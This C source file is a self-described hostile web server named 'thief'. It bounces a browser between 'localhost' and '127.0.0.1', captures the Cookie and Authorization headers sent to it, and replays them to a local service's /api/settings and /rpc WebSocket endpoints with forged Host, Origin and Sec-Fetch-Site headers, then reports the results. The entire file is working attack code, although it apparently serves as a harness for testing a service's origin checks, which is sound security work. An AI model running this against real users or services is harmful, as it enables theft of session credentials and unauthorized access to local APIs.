// A hostile web server. Its visitors are sent on to another name of the host, so that a browser sends what it
// keeps for that name; then the program calls a service of the host with what it got, and says what came of it.
//
//   thief LISTEN_PORT GATEWAY SERVICE_PORT [KEY]
//
// GET /        redirects to the other of 127.0.0.1 and localhost
// GET /steal   answers with the request as it came, then a line for each call: "ATTEMPT: STATUS LINE" or "no
// connection"
//
// Each call has a forged Host and Origin. KEY is sent where it is given: what a guest that has the right key would get.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static const char *gateway, *key;
static unsigned service_port;

static char report[16384];
static size_t report_used;

static void say(const char *format, ...) {
    va_list arguments;
    va_start(arguments, format);
    int n = vsnprintf(report + report_used, sizeof report - report_used, format, arguments);
    va_end(arguments);
    if (n > 0) report_used += (size_t)n < sizeof report - report_used ? (size_t)n : sizeof report - report_used - 1;
}

static void send_all(int fd, const char *bytes, size_t n) {
    while (n > 0) {
        ssize_t sent = send(fd, bytes, n, MSG_NOSIGNAL);
        if (sent <= 0) return;
        bytes += sent;
        n -= (size_t)sent;
    }
}

/// Reads up to the empty line that ends a head, or as much as fits.
static size_t read_head(int fd, char *head, size_t size) {
    size_t used = 0;
    head[0] = 0;
    while (used + 1 < size && !strstr(head, "\r\n\r\n")) {
        ssize_t n = recv(fd, head + used, size - 1 - used, 0);
        if (n <= 0) break;
        used += (size_t)n;
        head[used] = 0;
    }
    return used;
}

/// The value of a header, without its end; empty where there is none.
static void header(const char *head, const char *name, char *value, size_t size) {
    value[0] = 0;
    const char *at = strcasestr(head, name);
    if (!at) return;
    at += strlen(name);
    size_t length = strcspn(at, "\r\n");
    if (length >= size) length = size - 1;
    memcpy(value, at, length);
    value[length] = 0;
}

/// Sends one request to the service and reports the first line of its answer.
static void call(const char *attempt, const char *request) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)service_port)};
    inet_pton(AF_INET, gateway, &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval limit = {.tv_sec = 10};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0) {
        say("%s: no connection\n", attempt);
        close(fd);
        return;
    }
    send_all(fd, request, strlen(request));
    char answer[4096];
    read_head(fd, answer, sizeof answer);
    answer[strcspn(answer, "\r\n")] = 0;
    say("%s: %s\n", attempt, answer[0] ? answer : "no answer");
    close(fd);
}

static void steal(const char *head) {
    char cookie[1024], authorization[1024], forged[256], request[8192];
    header(head, "\nCookie: ", cookie, sizeof cookie);
    header(head, "\nAuthorization: ", authorization, sizeof authorization);
    snprintf(forged, sizeof forged, "Host: 127.0.0.1:%u\r\nOrigin: http://127.0.0.1:%u\r\nSec-Fetch-Site: same-origin",
             service_port, service_port);

    report_used = 0;
    say("%s----\n", head);
    snprintf(request, sizeof request, "GET / HTTP/1.1\r\n%s\r\n\r\n", forged);
    call("the page", request);
    snprintf(request, sizeof request, "GET /api/settings HTTP/1.1\r\n%s\r\nCookie: %s\r\nAuthorization: %s\r\n\r\n",
             forged, cookie, authorization);
    call("with what the browser sent", request);
    if (!key) return;
    snprintf(request, sizeof request, "GET /api/settings HTTP/1.1\r\n%s\r\nAuthorization: Bearer %s\r\n\r\n", forged,
             key);
    call("with the right key", request);
    snprintf(request, sizeof request,
             "GET /rpc?contract=1 HTTP/1.1\r\n%s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
             "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
             "Sec-WebSocket-Protocol: unideck, unideck.key.%s\r\n\r\n",
             forged, key);
    call("a WebSocket with the right key", request);
}

static void serve(int fd) {
    char head[8192], host[256], answer[512];
    read_head(fd, head, sizeof head);
    header(head, "\nHost: ", host, sizeof host);
    if (strncmp(head, "GET /steal ", 11) == 0) {
        steal(head);
        snprintf(answer, sizeof answer, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\n\r\n",
                 report_used);
        send_all(fd, answer, strlen(answer));
        send_all(fd, report, report_used);
        return;
    }
    const char *port = strrchr(host, ':');
    const char *other = strncmp(host, "localhost", 9) == 0 ? "127.0.0.1" : "localhost";
    snprintf(answer, sizeof answer, "HTTP/1.1 302 Found\r\nLocation: http://%s%s/steal\r\nContent-Length: 0\r\n\r\n",
             other, port ? port : "");
    send_all(fd, answer, strlen(answer));
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: thief LISTEN_PORT GATEWAY SERVICE_PORT [KEY]\n");
        return 2;
    }
    gateway = argv[2];
    service_port = (unsigned)atoi(argv[3]);
    key = argv[4];
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[1]))};
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&here, sizeof here) != 0 || listen(listener, 16) != 0) {
        perror("thief");
        return 1;
    }
    printf("waiting\n");
    fflush(stdout);
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd < 0) continue;
        struct timeval limit = {.tv_sec = 5};
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
        serve(fd);
        close(fd);
    }
}
